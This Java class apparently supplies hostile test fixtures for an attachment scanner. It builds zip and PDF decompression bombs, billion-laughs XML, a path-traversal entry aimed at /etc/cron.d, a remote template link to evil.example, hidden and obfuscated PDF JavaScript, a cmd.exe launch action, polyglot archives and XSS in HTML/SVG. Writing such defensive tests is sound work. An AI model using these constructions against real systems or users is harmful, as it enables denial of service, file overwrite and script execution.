package dk.revus.submission.attachment;

import static dk.revus.submission.attachment.GoodFiles.bytes;
import static dk.revus.submission.attachment.GoodFiles.text;
import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Files that mean harm, as real as the ones that arrive. */
public final class HostileFiles {

    private static final int MEGABYTE = 1 << 20;

    private HostileFiles() {}

    /** Half a gigabyte of nothing in half a megabyte. */
    public static byte[] bomb() {
        var nothing = new byte[MEGABYTE];
        return bytes(
                out -> {
                    try (var zip = new ZipOutputStream(out)) {
                        for (var part : Zips.parts(GoodFiles.docx()).entrySet()) {
                            zip.putNextEntry(new ZipEntry(part.getKey()));
                            zip.write(part.getValue());
                        }
                        zip.putNextEntry(new ZipEntry("word/media/image1.emf"));
                        for (int n = 0; n < 500; n++) {
                            zip.write(nothing);
                        }
                    }
                });
    }

    /** A hundred parts that all unpack the same bytes. */
    public static byte[] overlapping() {
        var good = GoodFiles.docx();
        int list = listOfContents(good);
        var entry = ByteBuffer.wrap(good).order(ByteOrder.LITTLE_ENDIAN);
        int length =
                46
                        + entry.getShort(list + 28)
                        + entry.getShort(list + 30)
                        + entry.getShort(list + 32);
        return bytes(
                out -> {
                    out.write(good, 0, good.length - 22);
                    for (int n = 0; n < 100; n++) {
                        var again = Arrays.copyOfRange(good, list, list + length);
                        again[46] = (byte) ('a' + n % 26);
                        again[47] = (byte) ('a' + n / 26);
                        out.write(again);
                    }
                    out.write(endOfList(good, 100, 100 * length));
                });
    }

    private static int listOfContents(byte[] zip) {
        return ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN).getInt(zip.length - 6);
    }

    private static byte[] endOfList(byte[] zip, int more, int bytes) {
        var end = Arrays.copyOfRange(zip, zip.length - 22, zip.length);
        var fields = ByteBuffer.wrap(end).order(ByteOrder.LITTLE_ENDIAN);
        fields.putShort(8, (short) (fields.getShort(8) + more));
        fields.putShort(10, (short) (fields.getShort(10) + more));
        fields.putInt(12, fields.getInt(12) + bytes);
        return end;
    }

    /** Ten entities, each of ten of the one before. */
    public static byte[] entities() {
        var xml = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a0 \"ha\">");
        for (int n = 1; n < 10; n++) {
            xml.append("<!ENTITY a").append(n).append(" \"");
            xml.append(("&a" + (n - 1) + ";").repeat(10)).append("\">");
        }
        return Zips.with(GoodFiles.docx(), "word/settings.xml", xml + "]><w>&a9;</w>");
    }

    public static byte[] archiveInside() {
        return Zips.with(
                GoodFiles.docx(),
                "word/media/image1.png",
                Zips.of(Map.of("inner.exe", new byte[10])));
    }

    public static byte[] programInside() {
        return Zips.with(GoodFiles.docx(), "word/embeddings/oleObject1.bin", text("MZ\u0090\0"));
    }

    /** Word's own kind for it, under the name of the harmless one. */
    public static byte[] macros() {
        var types = new String(Zips.parts(GoodFiles.docx()).get("[Content_Types].xml"), ISO_8859_1);
        return Zips.with(
                Zips.with(GoodFiles.docx(), "word/vbaProject.bin", new byte[100]),
                "[Content_Types].xml",
                types.replace(
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml"));
    }

    public static byte[] templateFromTheNet() {
        return Zips.with(
                GoodFiles.docx(),
                "word/_rels/settings.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + "<Relationship Id=\"rId1\" TargetMode=\"External\""
                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                        + " Target=\"https://evil.example/normal.dotm\"/></Relationships>");
    }

    public static byte[] pathInside() {
        return Zips.with(GoodFiles.docx(), "../../etc/cron.d/revus", "* * * * * root true");
    }

    public static byte[] encryptedOffice() {
        return bytes(
                out -> {
                    try (var envelope = new POIFSFileSystem()) {
                        var encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
                        encryptor.confirmPassword("hemmelig");
                        try (var inside = encryptor.getDataStream(envelope)) {
                            inside.write(GoodFiles.docx());
                        } catch (java.security.GeneralSecurityException e) {
                            throw new IOException(e);
                        }
                        envelope.writeFilesystem(out);
                    }
                });
    }

    public static byte[] encryptedOdt() {
        return Zips.with(
                GoodFiles.odt(),
                "META-INF/manifest.xml",
                "<m:manifest xmlns:m=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">"
                        + "<m:file-entry m:full-path=\"content.xml\"><m:encryption-data"
                        + " m:checksum=\"x\"/></m:file-entry></m:manifest>");
    }

    public static byte[] odtWithBasic() {
        return Zips.with(GoodFiles.odt(), "Basic/Standard/Module1.xml", "<module/>");
    }

    public static byte[] odtThatCalls() {
        return Zips.with(
                GoodFiles.odt(),
                "content.xml",
                "<o:document-content xmlns:o=\"urn:o\" xmlns:x=\"http://www.w3.org/1999/xlink\">"
                        + "<o:event x:href=\"vnd.sun.star.script:pydoc.py$tempfilepager"
                        + "?language=Python&amp;location=share\"/></o:document-content>");
    }

    /** Does something to a document before it is saved. */
    interface Change {
        void to(PDDocument document) throws IOException;
    }

    private static byte[] pdf(Change change) {
        return bytes(
                out -> {
                    try (var document = GoodFiles.letter()) {
                        change.to(document);
                        document.save(out);
                    }
                });
    }

    public static byte[] script() {
        return pdf(
                document ->
                        document.getDocumentCatalog()
                                .setOpenAction(new PDActionJavaScript("app.alert('hej')")));
    }

    public static byte[] launch() {
        return pdf(
                document -> {
                    var start = new PDActionLaunch();
                    var program = new PDSimpleFileSpecification();
                    program.setFile("cmd.exe");
                    start.setFile(program);
                    document.getDocumentCatalog().setOpenAction(start);
                });
    }

    public static byte[] fileInPdf() {
        return pdf(
                document -> {
                    var file = new PDComplexFileSpecification();
                    file.setFile("inner.exe");
                    file.setEmbeddedFile(
                            new PDEmbeddedFile(
                                    document, new java.io.ByteArrayInputStream(new byte[10])));
                    var tree = new PDEmbeddedFilesNameTreeNode();
                    tree.setNames(Map.of("inner", file));
                    var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                    names.setEmbeddedFiles(tree);
                    document.getDocumentCatalog().setNames(names);
                });
    }

    public static byte[] encryptedPdf() {
        return pdf(
                document ->
                        document.protect(
                                new StandardProtectionPolicy("ejer", "", new AccessPermission())));
    }

    /** The same name, written in another way that means the same. */
    public static byte[] scriptInDisguise() {
        return handmade("5 0 obj\n<</S /J#61vaScript /J#53 (app.alert\\(1\\))>>\nendobj\n");
    }

    public static byte[] scriptInAComment() {
        return handmade("% 5 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj\n");
    }

    public static byte[] scriptInAText() {
        return handmade(
                "4 0 obj\n(see\n5 0 obj <</S /JavaScript /JS (app.alert)>>\nendobj)\nendobj\n");
    }

    /** As the bytes of a picture, which readers are told to begin in the middle of. */
    public static byte[] scriptInAPicture() {
        return handmade(
                "4 0 obj\n<</Length 70>>\nstream\n5 0 obj <</S /JavaScript /JS (app.alert)>>\n"
                        + "endobj\nendstream\nendobj\n");
    }

    /** Two packed objects; the second begins within the first one's text. */
    public static byte[] scriptInsidePackedText() {
        var first = "(text <</S /JavaScript /JS (alert)>> )";
        var head = "10 0 11 6 ";
        return handmade(packed(head, first, 2));
    }

    /** One packed object of two gigabytes. */
    public static byte[] bombInPdf() {
        var much =
                bytes(
                        out -> {
                            try (var deflating = new DeflaterOutputStream(out)) {
                                deflating.write(text("10 0 ("));
                                var nothing = new byte[MEGABYTE];
                                Arrays.fill(nothing, (byte) 'a');
                                for (int n = 0; n < 450; n++) {
                                    deflating.write(nothing);
                                }
                            }
                        });
        return handmade(stream("/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode", much));
    }

    private static String packed(String head, String objects, int count) {
        var plain =
                bytes(
                        out -> {
                            try (var deflating = new DeflaterOutputStream(out)) {
                                deflating.write(text(head + objects));
                            }
                        });
        return stream(
                "/Type /ObjStm /N %d /First %d /Filter [/FlateDecode]"
                        .formatted(count, head.length()),
                plain);
    }

    private static String stream(String dictionary, byte[] content) {
        return "4 0 obj\n<<%s /Length %d>>\nstream\n%s\nendstream\nendobj\n"
                .formatted(dictionary, content.length, new String(content, ISO_8859_1));
    }

    private static byte[] handmade(String objects) {
        return ("%PDF-1.5\n1 0 obj\n<</Type /Catalog /OpenAction 5 0 R>>\nendobj\n"
                        + objects
                        + "xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R /Size 6>>\n"
                        + "startxref\n9\n%%EOF\n")
                .getBytes(ISO_8859_1);
    }

    public static byte[] program() {
        var bytes = new byte[2048];
        bytes[0] = 'M';
        bytes[1] = 'Z';
        bytes[0x3C] = (byte) 0x80;
        bytes[0x80] = 'P';
        bytes[0x81] = 'E';
        return bytes;
    }

    public static byte[] html() {
        return text("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>");
    }

    public static byte[] svg() {
        return text(
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script>"
                        + "</svg>");
    }

    public static byte[] both(byte[] first, byte[] second) {
        var both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    /** A page for whoever reads from the front, an archive for whoever reads from the end. */
    public static byte[] pdfAndArchive() {
        return both(GoodFiles.pdf(), Zips.of(Map.of("evil.exe", program())));
    }

    /** The archive lies in a comment of the picture, and its list names the comment's place. */
    public static byte[] pngAndArchive() {
        var png = GoodFiles.picture("png");
        var zip = Zips.of(Map.of("evil.exe", program()));
        int end = png.length - 12;
        var out = new ByteArrayOutputStream();
        out.write(png, 0, end);
        var type = text("tEXt");
        var length = ByteBuffer.allocate(4).putInt(zip.length).array();
        var sum = new CRC32();
        sum.update(type);
        sum.update(zip);
        out.writeBytes(length);
        out.writeBytes(type);
        out.writeBytes(zip);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) sum.getValue()).array());
        out.write(png, end, 12);
        return out.toByteArray();
    }

    /** Says that it is a hundred thousand by a hundred thousand. */
    public static byte[] hugePicture() {
        var png = GoodFiles.picture("png");
        var fields = ByteBuffer.wrap(png);
        fields.putInt(16, 100_000).putInt(20, 100_000);
        var sum = new CRC32();
        sum.update(png, 12, 17);
        fields.putInt(29, (int) sum.getValue());
        return png;
    }
}
